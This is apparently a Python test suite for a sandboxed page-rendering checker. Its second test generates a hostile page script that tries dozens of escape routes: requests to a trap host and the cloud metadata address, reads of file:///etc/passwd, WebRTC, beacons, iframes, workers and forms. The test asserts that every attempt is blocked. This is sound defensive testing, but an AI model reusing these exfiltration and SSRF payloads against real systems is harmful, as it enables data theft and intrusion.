"""Real pages in a real browser: what scripts write is read, and nothing gets out but through the proxy."""

from dataclasses import replace

from checker.net.browser.installed import Rendering
from checker.net.browser.limits import RenderLimits
from checker.net.browser.visit import render
from checker.net.client import fetch
from checker.read import read_page
from checker.status import Status
from tests.browser.conftest import APP_FILES, INSIDE, TRAP, Trap, site, visit
from tests.net.server import reply


def test_page_built_by_scripts_is_read_as_its_scripts_leave_it(rendering: Rendering) -> None:
    with site(APP_FILES) as server:
        plain = fetch(server.url, policy=INSIDE)
        page = render(plain, rendering, policy=INSIDE)

    read = read_page(page)
    assert read_page(plain).status is Status.SCRIPT_BUILT
    assert (read.status, read.limits) == (Status.OK, ())
    assert read.text.count("Our cells cure arthritis") == 6
    for words in (
        "Cells & joints",
        "Inside the box: handed to the box",
        "Written a little later.",
        "In the form",
        "In the drawing",
    ):
        assert words in read.text
    assert "Inside the frame & read" in read.text
    assert "Switch scripts on" not in read.text
    assert page.served_body == plain.body
    assert page.browser.startswith("Chromium ")
    asked = [request.split(b"\r\n")[0].decode() for request in server.requests]
    assert asked.count("GET / HTTP/1.1") == 1
    assert all(b"User-Agent: clinic-check/" in request for request in server.requests)
    assert page == replace(
        plain,
        body=page.body,
        served_body=plain.body,
        browser=page.browser,
        content_type="text/html; charset=utf-8",
        notes=(
            "The browser ran without its sandbox, as asked for.",
            f"In the browser the page fetched scripts, styles or data from: 127.0.0.1:{server.port}.",
        ),
    )


def traps(trap: Trap) -> str:
    """Return scripts that try every way out towards the trap's address that a page has."""
    place = f"{TRAP}:{trap.port}"
    return f"""
      const tell = words => document.body.append(words + ' ');
      const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
      const tries = {{
        fetch: () => fetch('http://{place}/').catch(() => 0),
        post: () => fetch('http://{place}/', {{method: 'POST', body: 'x', mode: 'no-cors'}}).catch(() => 0),
        metadata: () => fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0),
        localhost: () => fetch('http://localhost:{trap.port}/').catch(() => 0),
        number: () => fetch('http://2130706434:{trap.port}/').catch(() => 0),
        redirect: () => fetch('/away').catch(() => 0),
        encrypted: () => fetch('https://{place}/').catch(() => 0),
        file: () => fetch('file:///etc/hostname').then(() => tell('FILE READ')).catch(() => 0),
        socket: () => new WebSocket('ws://{place}/'),
        source: () => new EventSource('http://{place}/'),
        beacon: () => navigator.sendBeacon('http://{place}/', 'x'),
        transport: () => new WebTransport('https://{place}/').ready.catch(() => 0),
        calls: () => {{
          const call = new RTCPeerConnection({{iceServers: [
            {{urls: 'stun:{place}'}}, {{urls: 'turn:{place}?transport=tcp', username: 'a', credential: 'b'}},
            {{urls: 'turn:{place}', username: 'a', credential: 'b'}}]}});
          call.createDataChannel('x');
          call.createOffer().then(offer => call.setLocalDescription(offer));
        }},
        image: () => {{ new Image().src = 'http://{place}/'; }},
        script: () => add('script', {{src: 'http://{place}/'}}),
        style: () => add('style', {{textContent: '@import "http://{place}/"; @font-face {{font-family: f; '
          + 'src: url(http://{place}/)}} body {{font-family: f; background: url(http://{place}/)}}'}}),
        video: () => add('video', {{src: 'http://{place}/', autoplay: true}}),
        hints: () => ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'manifest', 'icon'].forEach(
          rel => document.head.append(Object.assign(document.createElement('link'),
            {{rel, href: 'http://{place}/', as: 'script'}}))),
        frame: () => add('iframe', {{src: 'http://{place}/'}}),
        fileFrame: () => add('iframe', {{src: 'file:///etc/passwd'}}),
        dataFrame: () => add('iframe', {{src: 'data:text/html,<script>fetch("http://{place}/")</' + 'script>'}}),
        blobFrame: () => add('iframe', {{src: URL.createObjectURL(
          new Blob(['<script src="http://{place}/"></' + 'script>'], {{type: 'text/html'}}))}}),
        object: () => add('object', {{data: 'http://{place}/'}}),
        window: () => {{ if (open('http://{place}/')) tell('WINDOW OPENED'); }},
        worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('http://{place}/').catch(() => 0)"]))),
        service: () => navigator.serviceWorker.register('/worker.js')
          .then(done => done && tell('SERVICE')).catch(() => 0),
        place: () => navigator.geolocation.getCurrentPosition(() => tell('PLACE TOLD'), () => 0),
        download: () => Object.assign(document.createElement('a'), {{href: '/file.bin', download: 'x'}}).click(),
        alert: () => tell(confirm('Yes?') ? 'CONFIRMED' : 'dismissed'),
        form: () => {{
          const form = Object.assign(document.createElement('form'), {{action: 'http://{place}/', method: 'post'}});
          document.body.append(form);
          form.submit();
        }},
        refresh: () => document.head.append(Object.assign(document.createElement('meta'),
          {{httpEquiv: 'refresh', content: '0; url=http://{place}/'}})),
      }};
      for (const [name, act] of Object.entries(tries)) {{
        try {{ act(); tell('tried:' + name); }} catch (error) {{ tell('failed:' + name); }}
      }}
      setTimeout(() => {{ location = 'http://{place}/'; }}, 300);
    """


def test_no_way_out_of_a_hostile_page_reaches_a_refused_address(rendering: Rendering, trap: Trap) -> None:
    away = reply(302, f"Location: http://{TRAP}:{trap.port}/")
    files: dict[str, str | bytes] = {
        "/": "<title>Traps</title><p>Words before.</p><script src=/traps.js></script>",
        "/traps.js": traps(trap),
        "/away": away,
        "/worker.js": "fetch('/from-the-worker')",
        "/file.bin": reply(200, "Content-Disposition: attachment", body=b"x" * 100),
    }
    looked_up: set[str] = set()

    def resolver(host: str, _port: int) -> tuple[str, ...]:
        looked_up.add(host)
        return (TRAP,)

    with site(files) as server:
        limits = RenderLimits(load_s=4, quiet_s=1, linger_s=2)
        page = visit(server, rendering, limits, policy=replace(INSIDE, resolver=resolver))

    assert looked_up == {"localhost"}
    text = page.body.decode()
    assert trap.visitors == []
    assert "Words before." in text
    assert text.count("tried:") == 31
    assert "dismissed" in text
    for word in ("FILE READ", "WINDOW OPENED", "SERVICE", "PLACE TOLD", "CONFIRMED"):
        assert f"{word} " not in text
    notes = "\n".join(page.notes)
    assert f"asked for something at {TRAP}:{trap.port}, which is never contacted" in notes
    assert "asked for something at 169.254.169.254, which is never contacted" in notes
    assert f"The page tried to lead to {server.url}file.bin by itself; that was not followed." in {
        limit.sentence for limit in page.limits
    }
    assert not any(b"GET /from-the-worker" in request for request in server.requests)
